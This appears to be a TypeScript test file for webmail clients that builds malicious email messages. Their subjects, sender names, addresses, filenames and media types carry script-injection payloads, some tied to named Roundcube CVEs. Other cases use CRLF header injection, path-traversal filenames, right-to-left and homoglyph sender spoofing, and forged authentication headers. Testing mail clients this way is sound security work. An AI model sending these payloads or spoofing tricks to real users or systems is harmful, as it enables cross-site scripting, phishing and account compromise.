/** What a header field puts into the page: subjects, names of people and of files, media types. `naive`: put in as HTML. */
import { headersOf, html, htmlMessage, multipart, part } from "./trick.ts";
import type { Bait, Family, Trick } from "./trick.ts";

const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text, "utf8").toString("base64")}?=`;

const subject = (does: Trick["does"], name: string, text: (bait: Bait) => string): Trick => ({
  ...html(does, name, text),
  message: (bait) => `${headersOf(bait, ["Content-Type: text/plain"], encoded(text(bait)))}\r\n\r\nHello\r\n`,
});

const from = (does: Trick["does"], name: string, text: (bait: Bait) => string): Trick => ({
  ...html(does, name, text),
  message: (bait) =>
    `${headersOf(bait, ["Content-Type: text/plain"])}\r\n\r\nHello\r\n`.replace(
      /^From: .*$/m,
      `From: ${encoded(text(bait))} <mallory@evil.example>`,
    ),
});

const named = (does: Trick["does"], name: string, text: (bait: Bait) => string): Trick => ({
  ...html(does, name, text),
  message: (bait) => {
    const file = encodeURIComponent(text(bait)).replace(/['()*]/g, (c) => `%${c.charCodeAt(0).toString(16)}`);
    return multipart(bait, "mixed", [
      part("text/plain", "Hello"),
      part("application/octet-stream", "x", [`Content-Disposition: attachment; filename*=utf-8''${file}`]),
    ]);
  },
});

export const fields: Family = {
  name: "header fields",
  tricks: [
    // Roundcube 1.6.16, and many before: subjects that are put in as HTML
    subject("runs", "HTML in the subject", ({ run }) => `<img src=x onerror=${run}>`),
    subject(
      "runs",
      "an end of the title in the subject",
      ({ run }) => `</title></h1><script>${run}</script>"'><svg onload=${run}>`,
    ),
    subject(
      "nothing",
      "a template in the subject",
      ({ run }) => `{{${run}}} {@html x} \${${run}} <%= 1 %> %3Cscript%3E`,
    ),
    subject(
      "nothing",
      "directions and controls in the subject",
      () => `a \u202Eevitpircsed\u202C \u2067b\u2069 \u0000\u001B[31m\u0085\u2028`,
    ),
    subject("nothing", "a subject that climbs", () => `Z${"\u0353\u030D\u0334\u0489".repeat(1500)}`),
    subject("nothing", "a subject of 200,000 characters", () => `${"W".repeat(200)} `.repeat(1000)),
    from("runs", "HTML in the sender's name", ({ run }) => `<img src=x onerror=${run}>`),
    from("nothing", "another address as the name", () => `service@bank.example <service@bank.example>`),
    // "Trojan Source" (Boucher and Anderson 2021), for names
    from("nothing", "a name that turns around", () => `Bank \u202E<elpmaxe.live@yrollam>\u202C\u2066`),
    from("nothing", "a name in letters that look alike", () => `\u0410\u0440\u0440\u04CF\u0435 \uFF33upport`),
    from(
      "nothing",
      "a name of nothing, and one that climbs",
      () => `\u200B\u2060\u00AD\u115F\u3164 ${"\u0353\u030D".repeat(800)}`,
    ),
    from("nothing", "a name with line breaks and a NUL", () => `Ada\r\nBcc: x@evil.example\0\u2029`),
    {
      ...html("runs", "HTML in every address", ({ run }) => `<img src=x onerror=${run}>`),
      message: (bait) =>
        htmlMessage(bait, "<p>x</p>").replace(
          /^To: .*$/m,
          `To: "<img src=x onerror=${bait.run}>" <"<img src=x onerror=${bait.run}>"@evil.example>\r\nReply-To: "<b>" <"><script>${bait.run}</script>@evil.example>\r\nCc: ${"<b>x</b>,".repeat(50)}a@b`,
        ),
    },
    named("runs", "HTML as the name of a file", ({ run }) => `<img src=x onerror=${run}>.png`),
    named("nothing", "a name that hides its end", () => `invoice\u202Efdp.exe`),
    named("nothing", "a name with folders", () => `../../../../etc/cron.d/x\\..\\..\\autoexec.bat`),
    named("nothing", "a name with controls, devices and dots", () => `CON\u0000.\r\n\u200B . txt.`),
    named("nothing", "a name of 100,000 characters", () => `${"n".repeat(100_000)}.txt`),
    {
      // Roundcube CVE-2024-42008: the media type itself
      ...html("runs", "HTML as the media type (CVE-2024-42008)", ({ run }) => `<img src=x onerror=${run}>`),
      message: (bait) =>
        multipart(bait, "mixed", [
          part("text/plain", "Hello"),
          part(`image/png<img/src=x/onerror=${bait.run}>; name="<b>.png"`, "x", ["Content-Disposition: attachment"]),
          part(`"><script>${bait.run}</script>/x`, "x", ["Content-Disposition: attachment; filename=a"]),
        ]),
    },
    {
      // Roundcube CVE-2023-47272: Content-Type and Content-Disposition of what is shown
      ...html("runs", "a picture that is HTML (CVE-2023-47272)", ({ run }) => `<script>${run}</script>`),
      message: (bait) =>
        multipart(bait, "related", [
          part("text/html", `<img src="cid:p@x"><img src="cid:q@x"><a href="cid:p@x">x</a>`),
          part("image/png", `<html><script>${bait.run}</script>`, ["Content-ID: <p@x>", "Content-Disposition: inline"]),
          part(
            "image/svg+xml",
            `<svg xmlns="http://www.w3.org/2000/svg" onload="${bait.run}"><image href="${bait.url("cid.png")}"/></svg>`,
            ["Content-ID: <q@x>"],
          ),
        ]),
    },
    {
      ...html("asks", "HTML as a Content-ID", ({ url }) => `<img src="${url("cid")}">`),
      message: (bait) =>
        multipart(bait, "related", [
          part(
            "text/html",
            `<img src='cid:"onerror="${bait.run}'><p style='background:url("cid:x");background:url(cid:a)b);color:url(${bait.url("cid2")})'>x</p>`,
          ),
          part("image/png", "x", [`Content-ID: <"onerror="${bait.run}>`]),
          part("image/png", "x", [`Content-ID: <a);background:url(${bait.url("cid3")}>`]),
        ]),
    },
    {
      ...html("nothing", "lists and answers that lie", () => ""),
      message: (bait) =>
        `${headersOf(bait, [
          `List-Unsubscribe: <javascript:${bait.run}>, <http://127.0.0.1/x>, <https://a@${bait.host}:0/"><script>>`,
          "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
          `List-Id: "<img src=x onerror=${bait.run}>" <x.evil.example>`,
          `Authentication-Results: mx.example.org; dkim=pass header.d="<b>bank.example</b>"; spf=pass; dmarc=pass`,
          "Content-Type: text/plain",
        ])}\r\n\r\nHello\r\n`,
    },
  ],
};
